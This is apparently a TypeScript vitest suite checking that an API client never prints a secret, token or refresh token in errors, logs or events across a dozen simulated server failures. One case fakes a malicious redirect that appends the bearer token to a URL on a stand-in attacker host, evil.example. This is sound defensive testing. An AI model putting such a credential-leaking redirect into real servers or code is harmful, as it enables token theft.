import { inspect } from 'node:util';
import axios from 'axios';
import { afterEach, describe, expect, it } from 'vitest';
import { setUp as connectAndServe, createThing, getThing, SECRET, type SetUp } from './api.js';
import { formsOf, leaks as leaksOf, sinks } from './canary.js';
import { type Handler, json } from './server.js';

/*
 * Secrets are looked for in every form in which an error can be printed. The same harness must find
 * the secret of a raw AxiosError, or it would prove nothing.
 */

const TOKEN = 'canary-token-Zm9v+/=~1';
const REFRESH = 'canary-refresh-9f8e7d';

let current: SetUp | undefined;
afterEach(async () => {
  current?.client.close();
  await current?.server.close();
});

const leaks = (printed: Record<string, string>): string[] =>
  leaksOf(printed, [SECRET, TOKEN, REFRESH]);

const giveToken: Handler = (_seen, response) =>
  json(response, 200, {
    access_token: TOKEN,
    refresh_token: REFRESH,
    token_type: 'Bearer',
    expires_in: 900,
  });
const status =
  (code: number, body: unknown = {}): Handler =>
  (_seen, response) =>
    json(response, code, body);
const echo: Handler = (seen, response) =>
  json(response, 400, {
    errors: [
      {
        code: 'echo',
        detail: `You sent ${seen.headers.authorization} and ${seen.body} \u001b[31m`,
        traceId: 't',
      },
    ],
  });
const echoForm: Handler = (seen, response) => {
  const secret = new URLSearchParams(seen.body).get('client_secret') ?? '';
  json(response, 400, { error: 'invalid_client', error_description: formsOf(secret).join(' ') });
};
const reset: Handler = (_seen, response) => response.destroy();
const html: Handler = (seen, response) =>
  response
    .writeHead(200, { 'content-type': 'text/html' })
    .end(`<p>${seen.headers.authorization}</p>`);
const hang: Handler = () => {};

type Case = readonly [name: string, api: Handler, token: Handler];
const FAILURES: readonly Case[] = [
  [
    'the API refuses the token',
    status(401, { errors: [{ code: 'authorization-token-expired' }] }),
    giveToken,
  ],
  ['a permission is missing', status(403), giveToken],
  ['the API echoes token and body', echo, giveToken],
  ['the API fails', status(500), giveToken],
  [
    'the budget is used up',
    (_seen, response) => json(response, 429, {}, { 'retry-after': '86400' }),
    giveToken,
  ],
  ['the API answers HTML that echoes the token', html, giveToken],
  [
    'the API redirects',
    (seen, response) =>
      response
        .writeHead(302, { location: `https://evil.example/?t=${seen.headers.authorization}` })
        .end(),
    giveToken,
  ],
  ['the connection is reset', reset, giveToken],
  ['the API does not answer', hang, giveToken],
  ['the token endpoint refuses the pair and echoes the secret', status(200), echoForm],
  ['the token endpoint breaks off', status(200), reset],
  [
    'the token endpoint answers half a token',
    status(200),
    (_seen, response) =>
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(`{"access_token":"${TOKEN}"`),
  ],
  [
    'the token endpoint answers a token that cannot be used',
    status(200),
    (_seen, response) =>
      json(response, 200, { access_token: `${TOKEN} ${REFRESH}`, expires_in: 900 }),
  ],
];

describe('no secret can be printed from an error', () => {
  it.each(FAILURES)('when %s', async (_name, api, token) => {
    const log: string[] = [];
    const write = (message: string): number => log.push(message);
    current = await connectAndServe(
      api,
      {
        logger: { debug: write, warn: write },
        logLevel: 'debug',
        observe: (event) => write(JSON.stringify(event)),
        timeoutMs: 2_000,
        retry: { limit: 1, baseMs: 1, maxMs: 1 },
      },
      token,
    );
    const { client } = current;
    const calls = [
      client.call(getThing, { id: '1' }),
      client.call(createThing, { body: { name: 'thing' } }),
    ];
    const results = await Promise.allSettled(calls);
    const errors = results.flatMap((result) =>
      result.status === 'rejected' ? [result.reason] : [],
    );
    expect(errors).toHaveLength(2);
    for (const error of errors) {
      expect(leaks(sinks(error, log))).toEqual([]);
      expect(String(error)).not.toMatch(/\p{Cc}/u);
    }
    expect(log.length).toBeGreaterThan(0);
  });

  it('covers at least twelve failures', () => {
    expect(FAILURES.length).toBeGreaterThanOrEqual(12);
  });

  it('and the same harness finds the secret of a raw AxiosError in at least five sinks', async () => {
    current = await connectAndServe(status(400));
    const log: string[] = [];
    const error = await axios
      .post(`${current.server.url}/x`, new URLSearchParams({ client_secret: SECRET }).toString(), {
        headers: { authorization: `Bearer ${TOKEN}` },
      })
      .then(
        () => expect.unreachable(),
        (reason: unknown) => reason,
      );
    log.push(inspect(error, { depth: 9 }));
    expect(new Set(leaks(sinks(error, log))).size).toBeGreaterThanOrEqual(5);
  });
});
